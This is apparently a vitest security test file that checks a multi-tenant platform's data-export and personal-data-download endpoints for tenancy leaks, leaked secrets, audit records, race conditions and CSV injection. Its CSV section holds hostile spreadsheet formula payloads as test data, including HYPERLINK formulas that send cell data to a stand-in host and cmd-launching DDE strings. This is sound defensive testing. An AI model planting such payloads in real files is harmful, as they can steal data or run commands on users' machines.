import { randomBytes, randomUUID } from 'node:crypto';
import { crc32 } from 'node:zlib';
import { and, eq, inArray, sql } from 'drizzle-orm';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  auditLog,
  customerMetrics,
  customerNotes,
  exportChunks,
  exportJobs,
  guardianLinks,
  kioskDevices,
  memberships,
  paymentMethods,
  products,
  rosterItems,
  sessions,
  subscriptions,
  users,
} from '@platform/schema/db';
import { exportTexts, type ExportStatus } from '@platform/schema/imports/export.zod';
import { claims as allClaims } from '@platform/schema/organizations/claims';
import { seedFamilies } from '../families/families.fixtures.ts';
import { asKiosk, startTestKiosk } from '../kiosk/kiosk.fixtures.ts';
import {
  addMembership,
  insertTestOrg,
  insertTestUser,
  linkChild,
  logInAs,
  newOrgWithOwner,
  signedInStaff,
  switchInto,
  switchTo,
} from '../testing/auth-fixtures.ts';
import type { CookieJar } from '../testing/cookie-jar.ts';
import { createTestApp } from '../testing/test-app.ts';
import { testDatabaseKinds } from '../testing/test-database.ts';
import * as repo from './exports.repository.ts';
import { pruneExpiredArchives, runExport } from './exports.service.ts';

/**
 * Adversarial review of 'Export all data' and the personal-data download (issue 17). Every test
 * asserts the SAFE behaviour: a failing test is a finding.
 */
describe.each(testDatabaseKinds)('export attacks on %s', (kind) => {
  let t: Awaited<ReturnType<typeof createTestApp>>;
  let f: Awaited<ReturnType<typeof seedFamilies>>;
  beforeAll(async () => {
    t = await createTestApp(kind);
    f = await seedFamilies(t.app, t.db);
  }, 60_000);
  afterAll(() => t.close());

  const get = (jar: CookieJar | null, url: string, extra: Record<string, string> = {}) =>
    t.app.inject({ method: 'GET', url, headers: { ...(jar?.headers() ?? {}), ...extra } });
  const post = (jar: CookieJar | null, url: string, extra: Record<string, string> = {}) =>
    t.app.inject({ method: 'POST', url, headers: { ...(jar?.headers() ?? {}), ...extra } });
  const silentLog = { error: () => {} };

  /** Polls the export's row (not the API: the caller may have lost access) until it ends. */
  async function ended(id: string, timeoutMs = 30_000) {
    const deadline = Date.now() + timeoutMs;
    for (let n = 0; ; n++) {
      // Woken now and then only: on PGlite each wake queues fetches on its one connection.
      if (n % 20 === 0) t.app.jobs.wake();
      const [row] = await t.db.select().from(exportJobs).where(eq(exportJobs.id, id));
      if (row && (row.status === 'done' || row.status === 'failed')) return row;
      if (Date.now() > deadline) throw new Error(`export ${id} still ${row?.status}`);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }

  /** A new organisation and its owner (every claim), signed in to its staff view. */
  const newOrg = () => newOrgWithOwner(t.app, t.db);

  const staffOf = (orgId: string, staffClaims: string[]) =>
    signedInStaff(t.app, t.db, orgId, staffClaims);

  async function onRoster(
    orgId: string,
    user: { id: string; firstName: string; lastName: string; email: string | null },
    extra: Partial<typeof rosterItems.$inferInsert> = {},
  ) {
    await t.db.insert(rosterItems).values({
      orgId,
      userId: user.id,
      firstName: user.firstName,
      lastName: user.lastName,
      email: user.email,
      updatedAt: new Date(),
      ...extra,
    });
  }

  async function createdExport(jar: CookieJar) {
    const created = await post(jar, '/api/exports');
    expect(created.statusCode, created.body).toBe(201);
    return created.json<ExportStatus>().id;
  }

  function unzip(payload: Buffer): Record<string, string> {
    const entries = unzipSync(new Uint8Array(payload));
    return Object.fromEntries(
      Object.entries(entries).map(([name, bytes]) => [name, strFromU8(bytes)]),
    );
  }

  /** Entries whose bytes do not match the CRC-32 the zip's central directory records. */
  function badCrcs(payload: Buffer): string[] {
    const entries = unzipSync(new Uint8Array(payload));
    const eocd = payload.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
    let at = payload.readUInt32LE(eocd + 16);
    const bad: string[] = [];
    while (payload.readUInt32LE(at) === 0x02014b50) {
      const expected = payload.readUInt32LE(at + 16);
      const nameLength = payload.readUInt16LE(at + 28);
      const extra = payload.readUInt16LE(at + 30) + payload.readUInt16LE(at + 32);
      const name = payload.subarray(at + 46, at + 46 + nameLength).toString('utf8');
      if (!entries[name] || crc32(entries[name]) !== expected) bad.push(name);
      at += 46 + nameLength + extra;
    }
    return bad;
  }

  /** Makes an export through the API, waits for it, downloads it: its files. */
  async function exportFiles(jar: CookieJar) {
    const id = await createdExport(jar);
    const row = await ended(id);
    expect(row.status).toBe('done');
    const download = await get(jar, `/api/exports/${id}/download`);
    expect(download.statusCode, download.body).toBe(200);
    expect(Number(download.headers['content-length'])).toBe(download.rawPayload.length);
    return { id, files: unzip(download.rawPayload) };
  }

  const allTextOf = (files: Record<string, string>) =>
    Object.entries(files)
      .filter(([name]) => name !== 'README.txt')
      .map(([, text]) => text)
      .join('\n');

  // ---------------------------------------------------------------- tenancy

  it('tenancy: other orgs, staff without manage-org-settings, customers, kiosks, anonymous and guardians switched into a child see nothing', async () => {
    const a = await newOrg();
    const { id } = await exportFiles(a.jar);
    const urls = [`/api/exports/${id}`, `/api/exports/${id}/download`];

    // Staff of another organisation (every claim), with the id leaked: 404, not listed.
    for (const url of urls) expect((await get(f.manager.jar, url)).statusCode).toBe(404);
    const list = (await get(f.manager.jar, '/api/exports')).json<{ exports: ExportStatus[] }>();
    expect(list.exports.map((e) => e.id)).not.toContain(id);

    // Staff of A with every claim but manage-org-settings.
    const clerk = await staffOf(
      a.org.id,
      allClaims.filter((c) => c !== 'manage-org-settings'),
    );
    // A customer of A.
    const customer = await insertTestUser(t.db);
    await addMembership(t.db, customer.id, a.org.id, 'customer');
    const customerJar = (
      await logInAs(t.app, customer.email!, { profileType: 'use-customer', profileOrgId: a.org.id })
    ).jar;
    for (const jar of [clerk.jar, customerJar]) {
      for (const url of [...urls, '/api/exports'])
        expect((await get(jar, url)).statusCode).toBe(403);
      expect((await post(jar, '/api/exports')).statusCode).toBe(403);
    }

    // A kiosk of A (its credential, with and without the kiosk header).
    const kiosk = await startTestKiosk(t.app, t.db, a.org.id);
    for (const headers of [asKiosk(kiosk.jar), kiosk.jar.headers()]) {
      for (const url of [...urls, '/api/exports']) {
        const answer = await t.app.inject({ method: 'GET', url, headers });
        expect([401, 403]).toContain(answer.statusCode);
      }
      const made = await t.app.inject({ method: 'POST', url: '/api/exports', headers });
      expect([401, 403]).toContain(made.statusCode);
    }
    // Anonymous.
    for (const url of [...urls, '/api/exports'])
      expect((await get(null, url)).statusCode).toBe(401);
    expect((await post(null, '/api/exports')).statusCode).toBe(401);

    // A guardian switched into a child who is a customer of A.
    const guardian = await insertTestUser(t.db);
    const child = await insertTestUser(t.db, { firstName: 'Kid' });
    await addMembership(t.db, guardian.id, a.org.id, 'customer');
    await addMembership(t.db, child.id, a.org.id, 'customer');
    await linkChild(t.db, guardian.id, child.id, a.org.id);
    const guardianJar = (
      await logInAs(t.app, guardian.email!, { profileType: 'use-customer', profileOrgId: a.org.id })
    ).jar;
    await switchInto(t.app, guardianJar, child.id);
    for (const url of [...urls, '/api/exports'])
      expect((await get(guardianJar, url)).statusCode).toBe(403);
    expect((await post(guardianJar, '/api/exports')).statusCode).toBe(403);

    // A guardian of a child who is A's manager never reaches the staff view through a switch.
    const bossKid = await insertTestUser(t.db);
    await addMembership(t.db, bossKid.id, a.org.id, 'staff', [...allClaims]);
    const bossGuardian = await insertTestUser(t.db);
    await linkChild(t.db, bossGuardian.id, bossKid.id, null);
    const bgJar = (await logInAs(t.app, bossGuardian.email!)).jar;
    await switchTo(t.app, bgJar, bossKid.id, a.org.id);
    for (const url of [...urls, '/api/exports'])
      expect((await get(bgJar, url)).statusCode).not.toBe(200);
    expect((await post(bgJar, '/api/exports')).statusCode).not.toBe(201);
  });

  it('an exporter who loses manage-org-settings, or their membership, after making the export cannot download it', async () => {
    const a = await newOrg();
    const second = await staffOf(a.org.id, [...allClaims]);
    const id = await createdExport(second.jar);
    await ended(id);
    expect((await get(second.jar, `/api/exports/${id}/download`)).statusCode).toBe(200);
    await t.db
      .update(memberships)
      .set({ claims: allClaims.filter((c) => c !== 'manage-org-settings') })
      .where(and(eq(memberships.userId, second.user.id), eq(memberships.orgId, a.org.id)));
    expect((await get(second.jar, `/api/exports/${id}/download`)).statusCode).toBe(403);
    expect((await get(second.jar, `/api/exports/${id}`)).statusCode).toBe(403);
    await t.db
      .delete(memberships)
      .where(and(eq(memberships.userId, second.user.id), eq(memberships.orgId, a.org.id)));
    const after = await get(second.jar, `/api/exports/${id}/download`);
    expect([401, 403]).toContain(after.statusCode);
    // The owner still can.
    expect((await get(a.jar, `/api/exports/${id}/download`)).statusCode).toBe(200);
  });

  it('audit: each create and download is a row naming the exporter and the organisation', async () => {
    const a = await newOrg();
    const id = await createdExport(a.jar);
    await ended(id);
    await get(a.jar, `/api/exports/${id}/download`);
    await get(a.jar, `/api/exports/${id}/download`);
    // A refused download (another org) writes nothing in A's name.
    await get(f.manager.jar, `/api/exports/${id}/download`);
    const rows = await t.db
      .select()
      .from(auditLog)
      .where(sql`${auditLog.detail}->>'exportId' = ${id}`);
    expect(rows.map((r) => r.action).sort()).toEqual([
      'export-create',
      'export-download',
      'export-download',
    ]);
    for (const row of rows) expect(row).toMatchObject({ orgId: a.org.id, actorUserId: a.owner.id });
  });

  it('an admin impersonating a manager: the export audit rows name the admin at the keyboard', async () => {
    const a = await newOrg();
    const admin = await insertTestUser(t.db, { role: 'admin' });
    const adminJar = (await logInAs(t.app, admin.email!)).jar;
    const switched = await switchTo(t.app, adminJar, a.owner.id, a.org.id);
    expect(switched.statusCode, switched.body).toBe(303);
    const id = await createdExport(adminJar);
    await ended(id);
    expect((await get(adminJar, `/api/exports/${id}/download`)).statusCode).toBe(200);
    const rows = await t.db
      .select()
      .from(auditLog)
      .where(sql`${auditLog.detail}->>'exportId' = ${id}`);
    expect(rows).toHaveLength(2);
    // Safe: the admin is on record (as the actor, or as the impersonator in the detail) —
    // otherwise the owner is blamed for a download an admin made.
    for (const row of rows)
      expect([
        row.actorUserId,
        (row.detail as Record<string, unknown> | null)?.impersonatorUserId,
      ]).toContain(admin.id);
  });

  // ---------------------------------------------------------------- leaks in the archive

  it("holds none of another organisation's rows about a customer both share, and no secrets", async () => {
    const a = await newOrg();
    const b = await newOrg();
    const mark = `LEAK${randomUUID().slice(0, 8)}`;
    const shared = await insertTestUser(t.db, { firstName: 'Shay', lastName: 'Shared' });
    const sharedKid = await insertTestUser(t.db, { firstName: 'Kit', lastName: 'Shared' });
    const outsider = await insertTestUser(t.db, {
      firstName: `${mark}Outsider`,
      lastName: `${mark}Out`,
      dateOfBirth: '1999-09-09',
    });
    for (const org of [a.org.id, b.org.id]) {
      await addMembership(t.db, shared.id, org, 'customer');
      await addMembership(t.db, sharedKid.id, org, 'customer');
    }
    await onRoster(a.org.id, shared);
    await onRoster(a.org.id, sharedKid);
    // B's copies carry B's own names, tags and email.
    await onRoster(b.org.id, shared, {
      firstName: `${mark}BFirst`,
      lastName: `${mark}BLast`,
      email: `${mark.toLowerCase()}-b@example.test`,
      phone: '+1 555 000 9999',
      tags: [`${mark}BTag`],
    });
    await onRoster(b.org.id, sharedKid, { firstName: `${mark}BKid` });
    // The outsider: on B's roster only, with a membership of A but no roster row in A.
    await onRoster(b.org.id, outsider);
    await addMembership(t.db, outsider.id, a.org.id, 'customer');
    // Family links: B's staff made one between the two shared customers; another, platform-wide,
    // ties a shared customer to the outsider.
    await linkChild(t.db, shared.id, sharedKid.id, b.org.id);
    await linkChild(t.db, outsider.id, shared.id, null, { confirmed: false });
    // B's CRM rows about the shared customer.
    await t.db.insert(customerNotes).values({
      orgId: b.org.id,
      userId: shared.id,
      authorName: `${mark}Author`,
      body: `${mark} note of B`,
      updatedAt: new Date(),
    });
    await t.db.insert(customerMetrics).values({
      orgId: b.org.id,
      userId: shared.id,
      authorName: `${mark}MetricAuthor`,
      name: `${mark}Metric`,
      value: '42',
      measuredOn: '2026-01-01',
    });
    // B's product and subscription for the shared customer; A's own with a card on file.
    const [bProduct] = await t.db
      .insert(products)
      .values({
        orgId: b.org.id,
        name: `${mark}BProduct`,
        type: 'recurring',
        schedule: 'month',
        priceMinor: 1000,
        processorProductId: `prod_${mark}B`,
      })
      .returning();
    await t.db.insert(subscriptions).values({
      orgId: b.org.id,
      customerUserId: shared.id,
      productId: bProduct!.id,
      productName: `${mark}BSubscription`,
      priceMinor: 1000,
      status: 'active',
      startedOn: '2026-01-01',
    });
    const [aProduct] = await t.db
      .insert(products)
      .values({
        orgId: a.org.id,
        name: 'A Monthly',
        type: 'recurring',
        schedule: 'month',
        priceMinor: 2000,
      })
      .returning();
    const cardMark = `CARD${randomUUID().slice(0, 8)}`;
    const [pm] = await t.db
      .insert(paymentMethods)
      .values({
        orgId: a.org.id,
        userId: shared.id,
        processor: 'sandbox',
        processorPaymentMethodId: `pm_${cardMark}`,
        brand: `${cardMark}brand`,
        last4: '4242',
        expMonth: 12,
        expYear: 2031,
      })
      .returning();
    await t.db.insert(subscriptions).values({
      orgId: a.org.id,
      customerUserId: shared.id,
      productId: aProduct!.id,
      productName: 'A Monthly',
      priceMinor: 2000,
      status: 'active',
      startedOn: '2026-01-01',
      paymentMethodId: pm!.id,
      card: { brand: `${cardMark}brand`, last4: '4242', expMonth: 12, expYear: 2031 } as never,
      processorSubscriptionId: `sub_${cardMark}`,
    });
    // A kiosk of A: its token hash is a secret.
    await startTestKiosk(t.app, t.db, a.org.id);

    const { files } = await exportFiles(a.jar);
    const text = allTextOf(files);
    expect(text).toContain('Shay'); // A's own rows are there
    expect(text).toContain('A Monthly');
    // Nothing of B's.
    expect(text).not.toContain(mark);
    expect(text).not.toContain(mark.toLowerCase());
    expect(text).not.toContain('555 000 9999');
    expect(text).not.toContain(outsider.email!);
    expect(text).not.toContain('1999-09-09');
    // families.csv holds no link made by B's staff.
    const families = Papa.parse<string[]>(files['families.csv']!.trim(), { newline: '\r\n' }).data;
    expect(families.slice(1)).toEqual([]);
    // No secrets: password hashes, session and kiosk token hashes, card data, processor ids of
    // cards. (Processor product/subscription ids are kept by decision 0072.)
    const secrets: string[] = [];
    const people = await t.db
      .select({ hash: users.passwordHash })
      .from(users)
      .where(inArray(users.id, [a.owner.id, shared.id, sharedKid.id]));
    for (const p of people) if (p.hash) secrets.push(p.hash);
    const sess = await t.db
      .select({ h: sessions.refreshTokenHash })
      .from(sessions)
      .where(eq(sessions.userId, a.owner.id));
    secrets.push(...sess.map((s) => s.h));
    const kiosks = await t.db
      .select({ h: kioskDevices.tokenHash })
      .from(kioskDevices)
      .where(eq(kioskDevices.orgId, a.org.id));
    secrets.push(...kiosks.map((k) => k.h));
    expect(secrets.length).toBeGreaterThan(3);
    for (const secret of secrets) expect(text).not.toContain(secret);
    expect(text).not.toContain(cardMark);
    expect(text).not.toMatch(/\$argon2|pm_|tokenHash|token_hash|password/i);
  });

  // ---------------------------------------------------------------- CSV injection / JSON

  const hostile = [
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    '-1+1',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    'quote " and \\ backslash and \u2028 line sep and 😀',
  ];

  /** Every CSV cell (header included) a spreadsheet would run as a formula. */
  function formulaCells(files: Record<string, string>) {
    const found: string[] = [];
    for (const [name, text] of Object.entries(files)) {
      if (!name.endsWith('.csv')) continue;
      const parsed = Papa.parse<string[]>(text, { newline: '\r\n', skipEmptyLines: true });
      for (const row of parsed.data)
        for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) found.push(`${name}: ${cell}`);
    }
    return found;
  }

  async function hostileOrg(values: string[]) {
    const a = await newOrg();
    let n = 0;
    for (const value of values) {
      n++;
      const u = await insertTestUser(t.db, { firstName: value, lastName: value });
      await addMembership(t.db, u.id, a.org.id, 'customer');
      await onRoster(a.org.id, u, { tags: [value], phone: value });
      await t.db.insert(customerNotes).values({
        orgId: a.org.id,
        userId: u.id,
        authorName: value,
        body: value,
        updatedAt: new Date(),
      });
      await t.db.insert(customerMetrics).values({
        orgId: a.org.id,
        userId: u.id,
        authorName: value,
        name: value,
        value,
        measuredOn: '2026-02-02',
      });
      await t.db.insert(products).values({
        orgId: a.org.id,
        name: `${value}`,
        description: value,
        type: 'one-time',
        schedule: 'one-time',
        priceMinor: 100 * n,
      });
    }
    return a;
  }

  it('CSV cells a spreadsheet would run are written with a leading quote; everything.json stays valid JSON', async () => {
    const a = await hostileOrg(hostile);
    const { files } = await exportFiles(a.jar);
    expect(formulaCells(files)).toEqual([]);
    const json = JSON.parse(files['everything.json']!) as Record<
      string,
      Array<Record<string, string>>
    >;
    expect(json.customers).toHaveLength(hostile.length);
    // The JSON keeps the text exactly (no quote added there).
    expect(json.customerNotes!.map((n) => n.note).sort()).toEqual([...hostile].sort());
    expect(json.products!.map((p) => p.name).sort()).toEqual([...hostile].sort());
  });

  it('CSV: a formula cell that spans lines (a note with a line break) is escaped too', async () => {
    const multi = [
      '=HYPERLINK("http://evil.test/steal?d="&B2,"Open")\nsecond line',
      '+1+1\r\nmore',
      '@SUM(1)\nx',
      // A leading CR alone is escaped, but "first last" joins two of them: one CR inside.
      '\r=1+1',
    ];
    const a = await hostileOrg(multi);
    const { files } = await exportFiles(a.jar);
    expect(formulaCells(files)).toEqual([]);
  });

  // ---------------------------------------------------------------- resources and state

  it('20 concurrent POST /api/exports queue exactly one export', async () => {
    const a = await newOrg();
    const answers = await Promise.all(
      Array.from({ length: 20 }, () => post(a.jar, '/api/exports')),
    );
    const codes = answers.map((r) => r.statusCode).sort();
    expect(codes.filter((c) => c === 201)).toHaveLength(1);
    expect(codes.filter((c) => c === 409)).toHaveLength(19);
    const rows = await t.db.select().from(exportJobs).where(eq(exportJobs.orgId, a.org.id));
    expect(rows).toHaveLength(1);
    await ended(rows[0]!.id);
  });

  it('a queued, running or failed export is not downloadable; an unknown or malformed id is 404/400', async () => {
    const a = await newOrg();
    const expiresAt = new Date(Date.now() + 86_400_000);
    for (const status of ['queued', 'running', 'failed'] as const) {
      const [row] = await t.db
        .insert(exportJobs)
        .values({ orgId: a.org.id, status, createdByUserId: a.owner.id, expiresAt })
        .returning();
      // Even with stray chunks left behind.
      await t.db
        .insert(exportChunks)
        .values({ exportId: row!.id, seq: 0, body: Buffer.from('PK-partial') });
      const answer = await get(a.jar, `/api/exports/${row!.id}/download`);
      expect(answer.statusCode).toBe(409);
      expect(answer.json()).toMatchObject({ message: exportTexts.notReady });
      await t.db.delete(exportJobs).where(eq(exportJobs.id, row!.id));
    }
    expect((await get(a.jar, `/api/exports/${randomUUID()}/download`)).statusCode).toBe(404);
    expect((await get(a.jar, `/api/exports/not-a-uuid/download`)).statusCode).toBe(400);
  });

  it('a run retried while the first still runs (runExport twice at once) leaves one whole archive', async () => {
    const a = await hostileOrg(['Ann', 'Bob', 'Cy']);
    const row = await repo.insertExport(t.db, {
      orgId: a.org.id,
      createdByUserId: a.owner.id,
      expiresAt: new Date(Date.now() + 86_400_000),
    });
    const deps = { db: t.db, log: silentLog };
    await Promise.all([runExport(deps, row.id), runExport(deps, row.id)]);
    const [after] = await t.db.select().from(exportJobs).where(eq(exportJobs.id, row.id));
    const chunks = await t.db
      .select({ seq: exportChunks.seq, body: exportChunks.body })
      .from(exportChunks)
      .where(eq(exportChunks.exportId, row.id));
    const stored = chunks.reduce((sum, c) => sum + Buffer.from(c.body).length, 0);
    // Safe: a done export whose chunks are exactly its bytes, and a download that unzips.
    expect(after!.status).toBe('done');
    expect(stored).toBe(after!.bytes);
    const download = await get(a.jar, `/api/exports/${row.id}/download`);
    expect(download.statusCode).toBe(200);
    expect(download.rawPayload.length).toBe(Number(download.headers['content-length']));
    expect(Object.keys(unzip(download.rawPayload))).toContain('customers.csv');
  });

  it('an export left "running" by a run that died (no job any more) does not block exports for ever', async () => {
    const a = await newOrg();
    const longAgo = new Date(Date.now() - 2 * 86_400_000);
    await t.db.insert(exportJobs).values({
      orgId: a.org.id,
      status: 'running',
      createdByUserId: a.owner.id,
      createdAt: longAgo,
      updatedAt: longAgo,
      expiresAt: new Date(longAgo.getTime() + 7 * 86_400_000),
    });
    const again = await post(a.jar, '/api/exports');
    expect(again.statusCode, again.body).toBe(201);
    await ended(again.json<ExportStatus>().id);
  });

  it('archives are bounded: no more archives are kept than the list shows (5)', async () => {
    const a = await newOrg();
    const ids: string[] = [];
    for (let i = 0; i < 6; i++) {
      const id = await createdExport(a.jar);
      await ended(id);
      ids.push(id);
    }
    const listed = (await get(a.jar, '/api/exports')).json<{ exports: ExportStatus[] }>();
    expect(listed.exports).toHaveLength(5);
    expect(listed.exports.map((e) => e.id)).not.toContain(ids[0]);
    // Older archives expire at once and lose their chunks after the grace hour (a download
    // under way reads to its end): the prune an hour on.
    await pruneExpiredArchives(t.db, Date.now() + repo.ARCHIVE_GRACE_MS + 1000);
    const kept = await t.db
      .selectDistinct({ id: exportChunks.exportId })
      .from(exportChunks)
      .where(inArray(exportChunks.exportId, ids));
    // Safe: the archive nobody can see in the list any more is gone (or at least not served).
    const oldest = await get(a.jar, `/api/exports/${ids[0]}/download`);
    expect(oldest.statusCode === 200 || kept.length > 5).toBe(false);
  });

  it('a large organisation (20,000 customers, archive over one 5 MB chunk) exports whole; Content-Length matches', async () => {
    const a = await newOrg();
    const tag = randomUUID().slice(0, 8);
    await t.db.execute(sql`
      insert into users (email, first_name, last_name, claimed_at)
      select 'big-' || g || '-' || ${tag} || '@example.test', 'First' || g, 'Last' || g, now()
      from generate_series(1, 20000) g`);
    await t.db.execute(sql`
      insert into roster_items (org_id, user_id, first_name, last_name, email, updated_at)
      select ${a.org.id}::uuid, u.id, u.first_name, u.last_name, u.email, now()
      from users u where u.email like ${`big-%-${tag}@example.test`}`);
    // Incompressible notes so the archive spans several chunks (each is written twice).
    const [someone] = await t.db
      .select({ id: users.id })
      .from(users)
      .where(eq(users.email, `big-1-${tag}@example.test`));
    for (let i = 0; i < 40; i++)
      await t.db.insert(customerNotes).values({
        orgId: a.org.id,
        userId: someone!.id,
        authorName: 'Bulk',
        body: randomBytes(75_000).toString('base64'),
        updatedAt: new Date(),
      });
    const id = await createdExport(a.jar);
    const row = await ended(id, 90_000);
    expect(row.status).toBe('done');
    const chunks = await t.db
      .select({ seq: exportChunks.seq })
      .from(exportChunks)
      .where(eq(exportChunks.exportId, id));
    expect(chunks.length).toBeGreaterThan(1);
    const download = await get(a.jar, `/api/exports/${id}/download`);
    expect(download.statusCode).toBe(200);
    expect(Number(download.headers['content-length'])).toBe(row.bytes);
    expect(download.rawPayload.length).toBe(row.bytes);
    expect(badCrcs(download.rawPayload)).toEqual([]);
    const files = unzip(download.rawPayload);
    const customers = files['customers.csv']!.trimEnd().split('\r\n');
    expect(customers).toHaveLength(20_001);
    expect(new Set(customers).size).toBe(20_001);
    const people = files['people.csv']!.trimEnd().split('\r\n');
    expect(people).toHaveLength(20_001); // the owner is staff, not on the roster
  }, 120_000);

  // ---------------------------------------------------------------- the personal-data export

  type Personal = {
    profile: { id: string; email: string | null } | null;
    family: Array<{ relation: string; firstName: string; lastName: string; email: string | null }>;
  };

  it("personal data: a guardian switched into a child gets the child's data (not the guardian's), query parameters change nothing", async () => {
    const guardian = await insertTestUser(t.db, { firstName: 'Gina', lastName: 'Guard' });
    const kid = await insertTestUser(t.db, { firstName: 'Kiddo', lastName: 'Guard' });
    const org = await insertTestOrg(t.db);
    await addMembership(t.db, guardian.id, org.id, 'customer');
    await addMembership(t.db, kid.id, org.id, 'customer');
    await linkChild(t.db, guardian.id, kid.id, org.id);
    const jar = (
      await logInAs(t.app, guardian.email!, { profileType: 'use-customer', profileOrgId: org.id })
    ).jar;
    const own = (await get(jar, `/api/me/data-export?userId=${f.otherParent.id}`)).json<Personal>();
    expect(own.profile!.id).toBe(guardian.id);
    expect(JSON.stringify(own)).not.toContain(f.otherParent.email!);
    await switchInto(t.app, jar, kid.id);
    const switched = await get(jar, '/api/me/data-export');
    expect(switched.statusCode).toBe(200);
    const data = switched.json<Personal>();
    expect(data.profile!.id).toBe(kid.id);
    expect(data.family).toEqual([
      expect.objectContaining({ relation: 'guardian', firstName: 'Gina' }),
    ]);
  });

  it("personal data: a person who typed an existing account's address as their guardian does not learn that account's real names", async () => {
    const person = await insertTestUser(t.db, { firstName: 'Petra', lastName: 'Prober' });
    const org = await insertTestOrg(t.db);
    await addMembership(t.db, person.id, org.id, 'customer');
    const victim = await insertTestUser(t.db, { firstName: 'Vera', lastName: 'Realname' });
    const jar = (
      await logInAs(t.app, person.email!, { profileType: 'use-customer', profileOrgId: org.id })
    ).jar;
    const added = await t.app.inject({
      method: 'POST',
      url: '/api/guardians',
      headers: jar.headers(),
      payload: {
        action: 'add-guardian',
        userId: person.id,
        signupDto: { email: victim.email, firstName: 'Typed', lastName: 'Guess' },
        skipResetPasswordMail: true,
      },
    });
    expect(added.statusCode, added.body).toBe(200);
    // The families API answers the typed names (decision 0035: an address reveals nothing).
    const listed = await t.app.inject({
      method: 'POST',
      url: '/api/guardians',
      headers: jar.headers(),
      payload: { action: 'get-guardians', userId: person.id },
    });
    expect(JSON.stringify(listed.json())).not.toContain('Realname');
    // So must the personal-data download.
    const mine = await get(jar, '/api/me/data-export');
    expect(mine.statusCode).toBe(200);
    expect(mine.body).not.toContain('Vera');
    expect(mine.body).not.toContain('Realname');
  });

  it('personal data: holds no secrets and none of other people of the same organisations', async () => {
    const mine = await get(f.parent.jar, '/api/me/data-export');
    expect(mine.statusCode).toBe(200);
    const [parentRow] = await t.db.select().from(users).where(eq(users.id, f.parent.id));
    expect(mine.body).not.toContain(parentRow!.passwordHash!);
    const sess = await t.db
      .select({ h: sessions.refreshTokenHash })
      .from(sessions)
      .where(eq(sessions.userId, f.parent.id));
    for (const s of sess) expect(mine.body).not.toContain(s.h);
    for (const other of [f.otherParent, f.stranger, f.manager, f.clerk])
      expect(mine.body).not.toContain(other.id);
    expect(mine.body).not.toContain(f.otherParent.email!);
    expect(mine.body).not.toContain(f.stranger.email!);
    expect(mine.headers['cache-control']).toBe('no-store');
    // guardian_links rows are ids only; nothing else of the parent's guardian_links leaks.
    const links = await t.db
      .select()
      .from(guardianLinks)
      .where(eq(guardianLinks.guardianUserId, f.parent.id));
    expect(links).toHaveLength(1);
  });
});
